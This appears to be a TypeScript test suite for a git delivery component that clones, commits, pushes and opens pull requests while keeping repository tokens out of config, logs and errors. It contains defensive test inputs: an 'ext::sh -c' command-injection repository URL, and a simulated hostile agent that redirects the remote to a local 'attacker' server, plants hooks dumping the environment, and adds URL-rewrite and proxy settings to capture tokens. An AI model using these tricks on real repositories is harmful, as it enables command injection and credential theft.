import { mkdir, mkdtemp, readdir, readFile, rm, stat, unlink, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { createServer } from 'node:http';
import { connect, createServer as createNetServer, type AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { memoryLogger } from '../../src/shared/log';
import { parseHiring, type Hiring } from '../../src/shared/hiring';
import {
  apiBaseFor,
  commitAndPush,
  diffAgainstBase,
  findWorkspace,
  prepareWorkspace,
  pushResultOutput,
  PushError,
  repoSlug,
  WorkspaceError,
} from '../../src/relay/delivery';
import { pushHiring } from './helpers';
import { gitCli, gitCliWithToken, startHostedGit, type HostedGit } from '../sandbox-git/helpers';

let hosted: HostedGit;
let root: string;
let scratch: string;
let repoUrl: string;
let writeToken: string;
let readToken: string;
const log = memoryLogger('delivery-test');
const errors: string[] = [];
/** A port nothing listens on: an API that is absent. */
const DEAD_API = 'http://127.0.0.1:9/api/v3';

function hiring(id: string, token: string | null, url = repoUrl): Hiring {
  return pushHiring(id, url, token);
}

async function caught<T>(p: Promise<T>): Promise<Error> {
  try {
    await p;
  } catch (e) {
    errors.push((e as Error).message);
    return e as Error;
  }
  throw new Error('expected a failure');
}

async function exists(p: string): Promise<boolean> {
  return stat(p).then(
    () => true,
    () => false,
  );
}

/** Every git command line the delivery code runs, recorded by a wrapper first on PATH. */
let argvLog: string;
const originalPath = process.env.PATH;

beforeAll(async () => {
  scratch = await mkdtemp(join(tmpdir(), 'delivery-scratch-'));
  const wrapperDir = join(scratch, 'bin');
  argvLog = join(scratch, 'git-argv.log');
  await mkdir(wrapperDir);
  const realGit = (await gitCli(['--exec-path'])).stdout.trim() + '/git';
  await writeFile(join(wrapperDir, 'git'), `#!/bin/sh\nprintf '%s\\n' "$*" >> '${argvLog}'\nexec '${realGit}' "$@"\n`, {
    mode: 0o755,
  });
  process.env.PATH = `${wrapperDir}:${originalPath ?? ''}`;
  hosted = await startHostedGit();
  root = await mkdtemp(join(tmpdir(), 'delivery-ws-'));
  const repo = await hosted.hosting.createRepository('acme', 'app', {
    files: { 'README.md': '# App\n', 'src/index.ts': 'export const x = 1;\n', 'old.txt': 'remove me\n' },
  });
  repoUrl = repo.cloneUrl;
  writeToken = hosted.hosting.issueToken('acme', 'app', 'write');
  readToken = hosted.hosting.issueToken('acme', 'app', 'read');
});

afterAll(async () => {
  process.env.PATH = originalPath;
  await hosted?.close();
  await rm(root, { recursive: true, force: true });
  await rm(scratch, { recursive: true, force: true });
});

describe('GitHub API location', () => {
  it('maps github.com to api.github.com and other hosts to <origin>/api/v3', () => {
    expect(apiBaseFor('https://github.com/acme/app.git')).toBe('https://api.github.com');
    expect(apiBaseFor('https://git.example.com:8443/acme/app')).toBe('https://git.example.com:8443/api/v3');
    expect(apiBaseFor('https://github.com/a/b', 'https://ghe.local/api/v3/')).toBe('https://ghe.local/api/v3');
    expect(repoSlug('http://127.0.0.1:1234/git/acme/app.git')).toEqual({ owner: 'acme', repo: 'app' });
  });
});

describe('prepareWorkspace', () => {
  it('clones on branch agrenting/<id>, reports progress, and keeps the token out of the remote and config', async () => {
    const progress: string[] = [];
    const ws = await prepareWorkspace(hiring('h-clone', writeToken), {
      root,
      log,
      onProgress: (m) => progress.push(m),
    });
    expect(ws.dir).toBe(join(root, 'h-clone'));
    expect(ws.branch).toBe('agrenting/h-clone');
    expect(ws.baseBranch).toBe('main');
    expect(ws.baseSha).toBe(await hosted.hosting.branchSha('acme', 'app', 'main'));
    expect(await readFile(join(ws.dir, 'src/index.ts'), 'utf8')).toBe('export const x = 1;\n');
    expect((await gitCli(['branch', '--show-current'], ws.dir)).stdout.trim()).toBe('agrenting/h-clone');
    expect(progress[0]).toMatch(/^Checking write access to 127\.0\.0\.1:\d+\/git\/acme\/app$/);
    expect(progress.at(-1)).toMatch(/Workspace ready on branch agrenting\/h-clone/);
    const remote = (await gitCli(['remote', '-v'], ws.dir)).stdout;
    expect(remote).toContain(repoUrl);
    expect(remote).not.toContain(writeToken);
  });

  it('finds the workspace again after a restart and reuses it without cloning', async () => {
    const found = await findWorkspace('h-clone', root);
    expect(found).toMatchObject({ dir: join(root, 'h-clone'), branch: 'agrenting/h-clone', baseBranch: 'main' });
    await writeFile(join(root, 'h-clone', 'work-in-progress.txt'), 'kept\n');
    const again = await prepareWorkspace(hiring('h-clone', writeToken), { root, log });
    expect(again).toEqual(found);
    expect(await readFile(join(root, 'h-clone', 'work-in-progress.txt'), 'utf8')).toBe('kept\n');
    expect(await findWorkspace('h-never', root)).toBeUndefined();
  });

  it('refuses a read-only token before cloning anything', async () => {
    const err = await caught(prepareWorkspace(hiring('h-readonly', readToken), { root, log }));
    expect(err).toBeInstanceOf(WorkspaceError);
    expect(err.message).toMatch(
      /^The repository token for hiring h-readonly cannot push to 127\.0\.0\.1:\d+\/git\/acme\/app: the GitHub API of 127\.0\.0\.1:\d+ grants read access only\.$/,
    );
    expect((err as WorkspaceError).step).toBe('access');
    expect(await exists(join(root, 'h-readonly'))).toBe(false);
  });

  it('refuses a wrong token before cloning, naming the host and what refused (the API said 401, so git decided)', async () => {
    const err = await caught(prepareWorkspace(hiring('h-wrong', 'gst_wrongwrongwrong'), { root, log }));
    expect(err.message).toMatch(
      /token for hiring h-wrong was rejected by git at 127\.0\.0\.1:\d+ for \S+\/acme\/app \(HTTP 401\)/,
    );
    expect(err.message).not.toContain('gst_wrongwrongwrong');
    expect(await exists(join(root, 'h-wrong'))).toBe(false);
  });

  it('falls back to git when the API is absent, and git rejects a wrong token cleanly', async () => {
    const err = await caught(
      prepareWorkspace(hiring('h-wrong-git', 'gst_wrongwrongwrong'), { root, log, githubApiBase: DEAD_API }),
    );
    expect(err).toBeInstanceOf(WorkspaceError);
    expect((err as WorkspaceError).step).toBe('clone');
    expect(err.message).toMatch(
      /^Cloning 127\.0\.0\.1:\d+\/git\/acme\/app for hiring h-wrong-git failed: git was refused, the repository token was rejected \(401\); it may be wrong or expired\.$/,
    );
    expect(await exists(join(root, 'h-wrong-git'))).toBe(false);
    expect(log.lines.some((l) => l.includes('write access not checked'))).toBe(true);
  });

  it('rejects path tricks, other transports, and missing repository fields', async () => {
    await expect(prepareWorkspace(hiring('../escape', writeToken), { root, log })).rejects.toMatchObject({
      step: 'input',
    });
    await expect(prepareWorkspace(hiring('a/b', writeToken), { root, log })).rejects.toThrow(
      /cannot name a workspace folder/,
    );
    await expect(
      prepareWorkspace(hiring('h-ext', writeToken, 'ext::sh -c touch% /tmp/pwned'), { root, log }),
    ).rejects.toThrow(/http\(s\)|invalid repository URL/);
    await expect(prepareWorkspace(hiring('h-notoken', null), { root, log })).rejects.toThrow(
      'Hiring h-notoken has no repository token: it cannot be delivered by push.',
    );
    await expect(
      prepareWorkspace(parseHiring({ id: 'h-nourl', delivery_mode: 'push' }), { root, log }),
    ).rejects.toThrow(/no repository URL/);
  });

  it('shares one preparation between concurrent callers', async () => {
    const h = hiring('h-concurrent', writeToken);
    const [a, b] = await Promise.all([prepareWorkspace(h, { root, log }), prepareWorkspace(h, { root, log })]);
    expect(a).toEqual(b);
    expect(log.lines.filter((l) => l.includes('cloning hiring=h-concurrent'))).toHaveLength(1);
  });

  it('never deletes a folder at the workspace path that is not a workspace', async () => {
    await mkdir(join(root, 'h-occupied'));
    await writeFile(join(root, 'h-occupied', 'precious.txt'), 'keep\n');
    const err = await caught(prepareWorkspace(hiring('h-occupied', writeToken), { root, log }));
    expect(err.message).toMatch(/already exists and is not a git workspace; move it away/);
    expect(await readFile(join(root, 'h-occupied', 'precious.txt'), 'utf8')).toBe('keep\n');
    await rm(join(root, 'h-occupied'), { recursive: true });
  });

  it('refuses an empty repository clearly', async () => {
    const { cloneUrl } = await hosted.hosting.createRepository('acme', 'empty');
    // Make it truly empty: delete main from the bare repository.
    await gitCli(['update-ref', '-d', 'refs/heads/main'], join(hosted.root, 'acme', 'empty.git'));
    const token = hosted.hosting.issueToken('acme', 'empty', 'write');
    const err = await caught(prepareWorkspace(hiring('h-emptyrepo', token, cloneUrl), { root, log }));
    expect(err.message).toMatch(
      /^Repository \S+\/acme\/empty of hiring h-emptyrepo is empty: push mode needs a base branch with at least one commit\.$/,
    );
  });

  it('strips credentials embedded in the repository URL (the tutorial form) from .git/config', async () => {
    const withCreds = repoUrl.replace('http://', `http://x-access-token:${writeToken}@`);
    const ws = await prepareWorkspace(hiring('h-creds', writeToken, withCreds), { root, log });
    const config = await readFile(join(ws.dir, '.git', 'config'), 'utf8');
    expect(config).not.toContain(writeToken);
    expect(config).toContain(repoUrl);
  });
});

describe('diffAgainstBase', () => {
  it('shows committed, uncommitted and untracked changes without touching the index', async () => {
    const ws = await prepareWorkspace(hiring('h-diff', writeToken), { root, log });
    await writeFile(join(ws.dir, 'src/index.ts'), 'export const x = 2;\n');
    await writeFile(join(ws.dir, 'new-file.ts'), 'export const added = true;\n');
    await unlink(join(ws.dir, 'old.txt'));
    const diff = await diffAgainstBase(ws);
    expect(diff.files).toEqual([
      { path: 'new-file.ts', status: 'added' },
      { path: 'old.txt', status: 'deleted' },
      { path: 'src/index.ts', status: 'modified' },
    ]);
    expect(diff.patch).toContain('+export const added = true;');
    expect(diff.patch).toContain('-export const x = 1;');
    const status = (await gitCli(['status', '--porcelain'], ws.dir)).stdout;
    expect(status).toContain('?? new-file.ts');
  });
});

describe('commitAndPush', () => {
  it('commits, pushes and opens a pull request; the branch holds exactly the changes', async () => {
    const h = hiring('h-push', writeToken);
    const ws = await prepareWorkspace(h, { root, log });
    await writeFile(join(ws.dir, 'src/index.ts'), 'export const x = 42;\n');
    await writeFile(join(ws.dir, 'src/feature.ts'), 'export const feature = 1;\n');
    const progress: string[] = [];
    const result = await commitAndPush(ws, h, {
      message: 'Implement the feature\n\nFor hiring h-push.',
      author: { name: 'Ada Worker', email: 'ada@example.invalid' },
      openPullRequest: true,
      prBody: 'Delivered by the relay.',
      log,
      onProgress: (m) => progress.push(m),
    });
    expect(result.branch).toBe('agrenting/h-push');
    expect(result.files_changed.sort()).toEqual(['src/feature.ts', 'src/index.ts']);
    expect(result.commit).toBe(await hosted.hosting.branchSha('acme', 'app', 'agrenting/h-push'));
    expect(result.pr_number).toBeGreaterThan(0);
    expect(result.pr_url).toBe(`${hosted.base}/git/acme/app/pull/${result.pr_number}`);
    const pr = hosted.hosting.pullRequests('acme', 'app').find((p) => p.number === result.pr_number);
    expect(pr).toMatchObject({
      title: 'Implement the feature',
      head: { ref: 'agrenting/h-push', sha: result.commit },
      base: { ref: 'main' },
      body: 'Delivered by the relay.',
    });
    expect(progress).toContain('Delivered');

    const author = (await gitCli(['log', '-1', '--format=%an <%ae>|%s'], ws.dir)).stdout.trim();
    expect(author).toBe('Ada Worker <ada@example.invalid>|Implement the feature');

    const fresh = join(scratch, 'fresh-h-push');
    expect((await gitCliWithToken(['clone', '-q', repoUrl, fresh], writeToken)).code).toBe(0);
    const names = (await gitCli(['diff', '--name-only', 'main', 'origin/agrenting/h-push'], fresh)).stdout
      .trim()
      .split('\n')
      .sort();
    expect(names).toEqual(result.files_changed.sort());
    expect(await readFile(join(fresh, 'src/index.ts'), 'utf8')).toBe('export const x = 1;\n');

    expect(pushResultOutput(result, 'Added the feature')).toEqual({
      summary: 'Added the feature',
      branch: 'agrenting/h-push',
      commit: result.commit,
      files_changed: result.files_changed,
      pull_request_url: result.pr_url,
      pull_request_number: result.pr_number,
    });

    // A retry after success changes nothing: same commit, same pull request.
    const again = await commitAndPush(ws, h, { message: 'Implement the feature', openPullRequest: true, log });
    expect(again).toEqual(result);
    expect(hosted.hosting.pullRequests('acme', 'app').filter((p) => p.head.ref === 'agrenting/h-push')).toHaveLength(1);
  });

  it('resumes after a failed push: the retry pushes the commit already made', async () => {
    const good = hiring('h-resume', writeToken);
    const ws = await prepareWorkspace(good, { root, log });
    await writeFile(join(ws.dir, 'resume.txt'), 'resume\n');
    const expired = hiring('h-resume', 'gst_expiredexpired');
    const err = await caught(commitAndPush(ws, expired, { message: 'Resume work', log }));
    expect(err).toBeInstanceOf(PushError);
    expect((err as PushError).step).toBe('push');
    expect(err.message).toBe(
      'Pushing agrenting/h-resume for hiring h-resume failed: the repository token was rejected (401); it may be wrong or expired.',
    );
    const committed = (await gitCli(['rev-parse', 'HEAD'], ws.dir)).stdout.trim();
    expect(committed).not.toBe(ws.baseSha);
    expect(await hosted.hosting.branchSha('acme', 'app', 'agrenting/h-resume')).toBeUndefined();

    const ro = await caught(commitAndPush(ws, hiring('h-resume', readToken), { message: 'Resume work', log }));
    expect(ro.message).toMatch(
      /^Pushing agrenting\/h-resume for hiring h-resume failed: the repository token cannot push \(403\)/,
    );

    const result = await commitAndPush(ws, good, { message: 'Resume work', log });
    expect(result.commit).toBe(committed);
    expect(result.files_changed).toEqual(['resume.txt']);
    expect(await hosted.hosting.branchSha('acme', 'app', 'agrenting/h-resume')).toBe(committed);
  });

  it('resumes after a failed pull request without pushing again', async () => {
    const h = hiring('h-pr-retry', writeToken);
    const ws = await prepareWorkspace(h, { root, log });
    await writeFile(join(ws.dir, 'pr.txt'), 'pr\n');
    const err = await caught(
      commitAndPush(ws, h, { message: 'PR retry', openPullRequest: true, githubApiBase: DEAD_API, log }),
    );
    expect((err as PushError).step).toBe('pull_request');
    expect(err.message).toMatch(
      /^The branch agrenting\/h-pr-retry of hiring h-pr-retry was pushed, but opening the pull request failed/,
    );
    const pushed = await hosted.hosting.branchSha('acme', 'app', 'agrenting/h-pr-retry');
    expect(pushed).toBeDefined();
    const from = log.lines.length;
    const result = await commitAndPush(ws, h, { message: 'PR retry', openPullRequest: true, log });
    expect(result.commit).toBe(pushed);
    expect(result.pr_url).toMatch(/\/git\/acme\/app\/pull\/\d+$/);
    expect(log.lines.slice(from).some((l) => l.includes('branch already pushed'))).toBe(true);
  });

  it('explains a push rejected because the remote branch moved on', async () => {
    const h = hiring('h-diverged', writeToken);
    const ws = await prepareWorkspace(h, { root, log });
    await writeFile(join(ws.dir, 'mine.txt'), 'mine\n');
    await commitAndPush(ws, h, { message: 'First', log });
    // Someone else pushes to the same branch in the meantime.
    const other = join(scratch, 'other-h-diverged');
    await gitCliWithToken(['clone', '-q', '-b', 'agrenting/h-diverged', repoUrl, other], writeToken);
    await writeFile(join(other, 'theirs.txt'), 'theirs\n');
    await gitCli(['add', '-A'], other);
    await gitCli(['commit', '-q', '-m', 'Theirs'], other);
    expect((await gitCliWithToken(['push', '-q', 'origin', 'agrenting/h-diverged'], writeToken, other)).code).toBe(0);

    await writeFile(join(ws.dir, 'mine.txt'), 'mine, revised\n');
    const err = await caught(commitAndPush(ws, h, { message: 'Second', log }));
    expect((err as PushError).step).toBe('push');
    expect(err.message).toBe(
      'Pushing agrenting/h-diverged for hiring h-diverged failed: the remote branch has commits this workspace does not have (someone else pushed to it). Pull them into the workspace, then deliver again.',
    );
  });

  it('reports an unreachable repository as a push failure, and pushes once it is back', async () => {
    // The repository is reached through a TCP relay we can cut, as a network outage would.
    let up = true;
    const target = Number(new URL(hosted.base).port);
    const proxy = createNetServer((client) => {
      if (!up) return client.destroy();
      const server = connect(target, '127.0.0.1');
      client.pipe(server).pipe(client);
      const close = () => {
        client.destroy();
        server.destroy();
      };
      client.on('error', close);
      server.on('error', close);
    });
    await new Promise<void>((r) => proxy.listen(0, '127.0.0.1', r));
    try {
      const viaProxy = repoUrl.replace(/:\d+\//, `:${(proxy.address() as AddressInfo).port}/`);
      const h = hiring('h-offline', writeToken, viaProxy);
      const ws = await prepareWorkspace(h, { root, log });
      await writeFile(join(ws.dir, 'offline.txt'), 'offline\n');
      up = false;
      const err = await caught(commitAndPush(ws, h, { message: 'Offline', log }));
      expect((err as PushError).step).toBe('push');
      expect(err.message).toMatch(
        /^Pushing agrenting\/h-offline for hiring h-offline failed: the repository could not be reached\./,
      );
      up = true;
      const result = await commitAndPush(ws, h, { message: 'Offline', log });
      expect(await hosted.hosting.branchSha('acme', 'app', 'agrenting/h-offline')).toBe(result.commit);
    } finally {
      await new Promise<void>((r) => proxy.close(() => r()));
    }
  });

  it('keeps the token from a workspace the agent tampered with: other remotes, URL rewrites, hooks', async () => {
    const seen: (string | undefined)[] = [];
    const attacker = createServer((req, res) => {
      seen.push(req.headers.authorization);
      res.writeHead(404).end();
    });
    await new Promise<void>((r) => attacker.listen(0, '127.0.0.1', r));
    const evil = `http://127.0.0.1:${(attacker.address() as AddressInfo).port}`;
    try {
      const h = hiring('h-tampered', writeToken);
      const ws = await prepareWorkspace(h, { root, log });
      await writeFile(join(ws.dir, 'work.txt'), 'work\n');
      // What a hostile agent could do inside its workspace:
      const dump = join(scratch, 'hook-env.txt');
      await gitCli(['remote', 'set-url', 'origin', `${evil}/steal.git`], ws.dir);
      await gitCli(['remote', 'set-url', '--push', 'origin', `${evil}/steal.git`], ws.dir);
      for (const hook of ['pre-push', 'reference-transaction', 'post-commit']) {
        await writeFile(join(ws.dir, '.git', 'hooks', hook), `#!/bin/sh\nenv >> '${dump}'\n`, { mode: 0o755 });
      }
      const result = await commitAndPush(ws, h, { message: 'Work', log });
      expect(await hosted.hosting.branchSha('acme', 'app', 'agrenting/h-tampered')).toBe(result.commit);
      expect(seen).toEqual([]);
      // No hook ran at all: hooks are workspace code, and the relay runs none of them.
      const dumped = await readFile(dump, 'utf8').catch(() => '');
      expect(dumped).toBe('');

      // A URL rewrite or a proxy planted in the workspace config is removed before the push,
      // which goes where it should; the attacker hears nothing.
      await gitCli(['config', `url.${evil}/.insteadOf`, `${new URL(repoUrl).origin}/`], ws.dir);
      await gitCli(['config', 'http.proxy', evil], ws.dir);
      await writeFile(join(ws.dir, 'more.txt'), 'more\n');
      const again = await commitAndPush(ws, h, { message: 'More', log });
      expect(await hosted.hosting.branchSha('acme', 'app', 'agrenting/h-tampered')).toBe(again.commit);
      expect(seen).toEqual([]);
      const config = await readFile(join(ws.dir, '.git', 'config'), 'utf8');
      expect(config).not.toMatch(/insteadOf|proxy/);
    } finally {
      attacker.closeAllConnections();
      await new Promise<void>((r) => attacker.close(() => r()));
    }
  });

  it('fails clearly when there is nothing to push', async () => {
    const h = hiring('h-empty', writeToken);
    const ws = await prepareWorkspace(h, { root, log });
    const err = await caught(commitAndPush(ws, h, { message: 'Nothing', log }));
    expect((err as PushError).step).toBe('commit');
    expect(err.message).toBe('Nothing to push for hiring h-empty: the workspace has no changes against main.');
  });
});

describe('no token anywhere', () => {
  async function filesUnder(dir: string): Promise<string[]> {
    const out: string[] = [];
    for (const entry of await readdir(dir, { withFileTypes: true })) {
      const p = join(dir, entry.name);
      if (entry.isDirectory()) out.push(...(await filesUnder(p)));
      else if (entry.isFile()) out.push(p);
    }
    return out;
  }

  it('leaves no token in any workspace .git file, reflog, remote, config, log line or error', async () => {
    const needles = [writeToken, readToken, 'gst_wrongwrongwrong', 'gst_expiredexpired'].flatMap((t) => [
      t,
      Buffer.from(`x-access-token:${t}`).toString('base64'),
    ]);
    const workspaces = (await readdir(root)).map((d) => join(root, d));
    expect(workspaces.length).toBeGreaterThanOrEqual(5);
    const haystacks: { where: string; text: string }[] = [];
    for (const ws of workspaces) {
      for (const file of await filesUnder(join(ws, '.git'))) {
        haystacks.push({ where: file, text: (await readFile(file)).toString('latin1') });
      }
      haystacks.push({ where: `${ws} reflog`, text: (await gitCli(['reflog', '--all'], ws)).stdout });
      haystacks.push({ where: `${ws} remote -v`, text: (await gitCli(['remote', '-v'], ws)).stdout });
      haystacks.push({ where: `${ws} config`, text: (await gitCli(['config', '--list', '--show-origin'], ws)).stdout });
    }
    haystacks.push({ where: 'log', text: log.lines.join('\n') });
    const argv = await readFile(argvLog, 'utf8');
    expect(argv).toMatch(/^clone .*\/git\/acme\/app\.git/m);
    expect(argv).toMatch(/^push /m);
    haystacks.push({ where: 'git command lines', text: argv });
    haystacks.push({ where: 'errors', text: errors.join('\n') });
    expect(errors.length).toBeGreaterThanOrEqual(5);
    // Stronger than "redacted": no secret ever reached the logger at all.
    expect(log.lines.join('\n')).not.toContain('[REDACTED]');
    for (const { where, text } of haystacks) {
      for (const needle of needles) expect(text.includes(needle), `token found in ${where}`).toBe(false);
    }
  });
});
